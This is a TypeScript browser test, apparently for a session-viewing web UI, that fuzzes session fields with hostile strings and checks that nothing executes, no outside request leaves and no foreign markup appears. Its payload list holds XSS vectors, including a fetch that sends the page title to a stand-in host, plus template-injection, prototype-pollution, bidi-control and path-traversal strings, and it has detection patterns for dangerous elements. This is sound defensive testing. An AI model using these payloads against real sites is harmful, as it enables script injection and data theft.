/** The page over hostile texts, in a browser with the policy of the service: nothing runs, no request leaves, and no markup comes of them. */
import { createClient } from "@memfold/client"
import { often } from "@memfold/harness/depth"
import * as fc from "fast-check"
import type { Browser, Page } from "playwright-core"
import { afterAll, beforeAll, expect, it } from "vitest"
import { browser as launch, problemsOf, started } from "./services.js"

let browser: Browser
beforeAll(async () => void (browser = await launch()))
afterAll(() => browser.close())

const runs = "window.hit=1,fetch('https://elsewhere.example/'+document.title)"
/** What a page might take for more than a text. */
const pieces = [
  `<script>${runs}</script>`,
  `</script><script src="https://elsewhere.example/x.js"></script>`,
  `<img src=x onerror="${runs}">`,
  `<svg onload="${runs}"><a xlink:href="javascript:${runs}">x</a></svg>`,
  `"><b autofocus onfocus="${runs}" x="`,
  `' onmouseover='${runs}' x='`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<style>@import url(https://elsewhere.example/x.css); * { background: url(https://elsewhere.example/y) }</style>`,
  `<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">`,
  `<base href="https://elsewhere.example/"><link rel=stylesheet href=//elsewhere.example/z.css>`,
  `<form action="https://elsewhere.example/"><input name=q autofocus><button>Send</button></form>`,
  `<a href="javascript:${runs}" ping="https://elsewhere.example/">press</a>`,
  `<math><mi//xlink:href="data:x,<script>${runs}</script>">`,
  `<template shadowrootmode=open><script>${runs}</script></template>`,
  `&lt;img src=x onerror=${runs}&gt; &#60;script&#62;`,
  `javascript:${runs}`,
  `data:text/html,<script>${runs}</script>`,
  `![x](https://elsewhere.example/i.png) [x](javascript:${runs})`,
  `\${${runs}} {{constructor.constructor("${runs}")()}}`,
  `<!--`,
  `]]>`,
  `__proto__`,
  `constructor`,
  `\u202Eevil\u2066 \u0000 \u001B[31m`,
  `#session=other&view=settings`,
  `?version=1/../..%2e%2e\\`,
  "x".repeat(3_000),
]
const text = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...pieces) },
      { weight: 1, arbitrary: fc.string({ unit: "binary" }) },
    ),
    {
      minLength: 1,
      maxLength: 3,
    },
  )
  .map((found) => found.join(" ").toWellFormed())

/** What stands at each place of a session that comes from outside. */
const places = [
  "id",
  "title",
  "owner",
  "user",
  "answer",
  "author",
  "tool",
  "argument",
  "result",
  "call",
  "file",
  "address",
] as const
type Texts = Readonly<Record<(typeof places)[number], string>>
const texts = fc.record(
  Object.fromEntries(places.map((place) => [place, text])) as { [Place in keyof Texts]: typeof text },
)

const strategy = { strategy: "rounds", fullContextTurns: 1, cachedContextTurns: 1 } as const

let sessions = 0
/** A new session with these texts, compacted once. */
const filled = async (url: string, said: Texts): Promise<string> => {
  const memory = createClient({ url })
  const id = `s-${++sessions}-${said.id.slice(0, 300)}`
  const described = { title: said.title.slice(0, 900) || "t", owner: `o-${said.owner.slice(0, 900)}` }
  const call = {
    id: said.call,
    type: "function",
    function: { name: said.tool, arguments: JSON.stringify({ [said.argument]: said.argument }) },
  }
  const turn = [
    { role: "user", name: said.author, content: said.user },
    { role: "assistant", content: said.answer, tool_calls: [call], reasoning_content: said.answer },
    { role: "tool", tool_call_id: said.call, content: said.result },
    {
      role: "user",
      content: [
        { type: "image_url", image_url: { url: said.address } },
        { type: "file", file: { filename: said.file, file_data: `data:application/pdf;base64,AAAA` } },
        { type: said.tool, [said.argument]: said.user },
      ],
    },
    { role: "assistant", content: said.answer, refusal: said.result },
  ]
  for (let times = 0; times < 3; times++) await memory.append(id, turn, times === 0 ? described : {})
  await memory.compact(id, strategy)
  return id
}

/** Elements and attributes that only a text which was taken for markup can have brought into the body. */
const foreignOn = (page: Page): Promise<ReadonlyArray<string>> =>
  page.evaluate(() =>
    [...document.body.querySelectorAll("*")]
      .filter(
        (one) =>
          /^(?:script|iframe|style|meta|base|link|math|mi|template|object|embed)$/u.test(one.localName) ||
          one.getAttributeNames().some((name) => /^(?:on|srcdoc$|ping$|action$|xlink:href$)/u.test(name)),
      )
      .map((one) => one.outerHTML.slice(0, 200)),
  )
/** Addresses on the page that lead elsewhere than to itself. */
const leavingOn = (page: Page): Promise<ReadonlyArray<string>> =>
  page.evaluate(() =>
    [...document.querySelectorAll("[href], [src], [action], [ping], [srcdoc], [style*='url']")]
      .filter((one) => one.closest("head") === null)
      .map((one) => one.getAttribute("href") ?? one.outerHTML)
      .filter((address) => !address.startsWith("#")),
  )

/** Shows a session in each of its views, and goes through its tabs. */
const shown = async (page: Page, url: string, id: string): Promise<void> => {
  const look = async () => {
    expect(await foreignOn(page)).toEqual([])
    expect(await leavingOn(page)).toEqual([])
  }
  // Another document each time: the page is loaded with its address.
  const open = async (fragment: string, first: string) => {
    await page.goto("about:blank")
    await page.goto(`${url}/studio/${fragment}`)
    await page.locator(first).first().waitFor()
    await look()
  }
  await open("", "tbody tr")
  await page.getByRole("searchbox").fill(id.slice(2, 60))
  await look()
  const session = `#session=${encodeURIComponent(id)}`
  await open(session, ".where")
  for (const tab of ["Difference", "Replaced", "Summary", "As it was said", "What the model got"]) {
    const found = page.getByRole("tab", { name: tab, exact: true })
    if (!(await found.isVisible())) continue
    await found.click()
    await look()
  }
  await page.keyboard.press("[")
  await look()
  await open(`${session}&view=tokens`, "figure")
  await open(`${session}&view=trace`, "form")
  await open(`${session}&view=facts`, "tbody tr")
  await page.getByRole("button", { name: "Learn anew", exact: true }).click()
  await page.getByRole("button", { name: "Take", exact: true }).waitFor()
  await look()
  await open(`${session}&view=audit`, "tbody tr")
  await open(`${session}&view=settings`, "form")
}

it("shows them as texts", async () => {
  const { url } = await started({ compaction: { mode: "manual" }, layers: true })
  const page = await browser.newPage()
  const problems = problemsOf(page)
  const elsewhere: Array<string> = []
  page.on("request", (request) => {
    if (!request.url().startsWith(url) && request.url() !== "about:blank") elsewhere.push(request.url())
  })
  page.on("dialog", (dialog) => void elsewhere.push(dialog.message()))
  await fc.assert(
    fc.asyncProperty(texts, async (said) => {
      await shown(page, url, await filled(url, said))
      expect(elsewhere).toEqual([])
      expect(problems).toEqual([])
      expect(await page.evaluate("window.hit")).toBe(undefined)
    }),
    { numRuns: often(1, 60), endOnFailure: true },
  )
})
